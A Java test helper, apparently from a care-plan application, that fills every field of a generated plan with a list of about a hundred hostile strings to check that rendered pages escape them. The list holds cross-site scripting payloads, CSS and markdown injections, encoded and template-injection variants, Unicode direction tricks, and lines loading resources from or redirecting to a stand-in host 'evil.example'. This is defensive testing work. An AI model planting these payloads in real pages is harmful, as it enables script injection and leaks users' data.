package careplan.launcher;

import careplan.generate.EveryField;
import java.util.List;

/**
 * A plan that tries in every field, and in turn in many ways, to be something else than words when
 * it stands in a page.
 */
final class HostilePlan {
  private static final String LONG_WORD = "Llanfairpwllgwyngyllgogerychwyrndrobwll".repeat(12);

  /** Ways to get out of words: the kinds that OWASP's list of evasions has, and some of our own. */
  static final List<String> WORDS =
      List.of(
          "<script>alert(1)</script>",
          "<ScRiPt >alert(2)</sCrIpT >",
          "<script src=https://evil.example/x.js></script>",
          "<script\n>alert(3)</script\n>",
          "</script><script>alert(4)</script>",
          "<<script>alert(5)//<</script>",
          "<scr<script>ipt>alert(6)</scr</script>ipt>",
          "<script/x>alert(7)</script>",
          "\"><script>alert(8)</script>",
          "'><script>alert(9)</script>",
          "</title><script>alert(10)</script>",
          "</style><script>alert(11)</script>",
          "--><script>alert(12)</script><!--",
          "]]><script>alert(13)</script>",
          "<img src=x onerror=alert(14)>",
          "<img src=x onerror=\"alert(15)\"",
          "<img/src='x'/onerror=alert(16)>",
          "<IMG SRC=javascript:alert(17)>",
          "<img src=\"jav\tascript:alert(18)\">",
          "<img src=https://evil.example/pixel.gif>",
          "<img srcset=https://evil.example/a.png>",
          "\" onmouseover=\"alert(19)",
          "' onfocus='alert(20)' autofocus='",
          "\" autofocus onfocus=alert(21) x=\"",
          "` onclick=`alert(22)",
          "<body onload=alert(23)>",
          "<svg onload=alert(24)>",
          "<svg/onload=alert(25)>",
          "<svg><script>alert(26)</script></svg>",
          "<svg><a xlink:href=javascript:alert(27)><text>x</text></a></svg>",
          "<svg><animate onbegin=alert(28) attributeName=x dur=1s>",
          "<math><mtext><style><img src=x onerror=alert(29)></style>",
          "<math href=javascript:alert(30)>x</math>",
          "<iframe src=javascript:alert(31)></iframe>",
          "<iframe srcdoc='<script>alert(32)</script>'>",
          "<object data=https://evil.example/x.swf></object>",
          "<embed src=https://evil.example/x.swf>",
          "<form action=https://evil.example><input name=q autofocus>",
          "<button formaction=javascript:alert(33)>x</button>",
          "<input type=image src=https://evil.example/x.png>",
          "<select onfocus=alert(34) autofocus>",
          "<textarea autofocus onfocus=alert(35)>",
          "<details open ontoggle=alert(36)>",
          "<video poster=https://evil.example/p.png><source onerror=alert(37)>",
          "<audio src=x onerror=alert(38)>",
          "<marquee onstart=alert(39)>x</marquee>",
          "<isindex type=image src=1 onerror=alert(40)>",
          "<base href=https://evil.example/>",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<meta http-equiv=refresh content='0;url=https://evil.example'>",
          "<template><img src=x onerror=alert(41)></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(42)>\">",
          "<plaintext>",
          "<xmp><p></xmp>",
          "<!--[if IE]><script>alert(43)</script><![endif]-->",
          "<!-- a comment without end",
          "<?xml version=\"1.0\"?><x/>",
          "<![CDATA[<script>alert(44)</script>]]>",
          "<table><td></table><tr>",
          "</p></div></section></main></body></html>",
          "<div style=\"background:url(https://evil.example/b.png)\">",
          "<style>@import url(https://evil.example/x.css);</style>",
          "*{background:url(https://evil.example/c.png)}",
          "\";} body{background:url(https://evil.example/d.png)} @page{x:\"",
          "\\22;}</style><img src=x onerror=alert(45)>",
          "<div style=width:expression(alert(46))>",
          "javascript:alert(47)",
          "JaVaScRiPt:alert(48)",
          "vbscript:msgbox(49)",
          "data:text/html,<script>alert(50)</script>",
          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "[a link](javascript:alert(51))",
          "![a picture](https://evil.example/m.png)",
          "<javascript:alert(52)>",
          "[x]: javascript:alert(53)\n[x]",
          "**bold<script>alert(54)</script>** _and_ `code`",
          "# a heading <img src=x onerror=alert(55)>",
          "| a | cell | <script>alert(56)</script> |",
          "&lt;script&gt;alert(57)&lt;/script&gt;",
          "&#60;script&#62;alert(58)&#60;/script&#62;",
          "&#x3c;img src=x onerror=alert(59)&#x3e",
          "&amp;lt;b&amp;gt; &nbsp &copy &notanentity;",
          "%3Cscript%3Ealert(60)%3C/script%3E",
          "\\u003cscript\\u003ealert(61)\\u003c/script\\u003e",
          "{{constructor.constructor('alert(62)')()}} ${alert(63)} <%= x %>",
          "\uff1cscript\uff1ealert(64)\uff1c/script\uff1e",
          "Ring \u202e0690 69610\u202c now \u2066\u2067left open",
          "\u200b\u200f\u061c\ufeff hidden \u2060 signs",
          "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301 \ud83d\udc69\u200d\ud83d\udd2c \ufdfd",
          "\u0627\u062a\u0635\u0644 0800 1111 \u0627\u0644\u0622\u0646",
          LONG_WORD,
          "x".repeat(500) + "<b>",
          "tel:999<script>alert(65)</script>",
          "mailto:a@b.example?bcc=evil@evil.example\"><img src=x onerror=alert(66)>",
          "https://evil.example/\" onclick=\"alert(67)");

  private int words;

  private HostilePlan(int first) {
    words = first;
  }

  /** A plan in which the words come in turn, from one of them on. */
  static String startingAt(int first) {
    HostilePlan plan = new HostilePlan(first);
    return EveryField.plan("[{with: jo, may-see: all, on: 2026-11-02}]", path -> plan.next());
  }

  /** The next words, as a string between quotation marks. */
  private String next() {
    String raw = WORDS.get(words++ % WORDS.size());
    StringBuilder quoted = new StringBuilder("\"");
    for (int i = 0; i < raw.length(); i++) {
      char c = raw.charAt(i);
      if (c == '"' || c == '\\') {
        quoted.append('\\').append(c);
      } else if (c < ' ' || c > '~') {
        String digits = Integer.toHexString(c);
        quoted.append("\\u").append("0".repeat(4 - digits.length())).append(digits);
      } else {
        quoted.append(c);
      }
    }
    return quoted.append('"').toString();
  }
}
